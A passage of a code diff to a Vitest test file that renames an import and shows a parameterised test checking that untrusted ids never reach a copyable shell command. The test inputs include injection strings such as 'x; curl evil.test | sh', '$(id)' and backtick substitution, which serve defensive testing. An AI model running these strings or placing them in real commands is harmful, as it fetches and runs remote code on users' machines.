@@ -1,6 +1,6 @@
 import { expect, test } from 'vitest'
 import { commandsOf } from '../../../domain/catalogue/cause.ts'
-import { causeCatalogue } from '../../../domain/catalogue/cause-catalogue.ts'
+import { causeCatalogue } from '../../../domain/catalogue/catalogue.ts'
 
 test.each(['x; curl evil.test | sh', '$(id)', '`id`', "a'b", '-rf', '--all', 'a b', 'a\nb', ''])(
   'nothing of a stranger’s id gets into a command that people copy: %s',
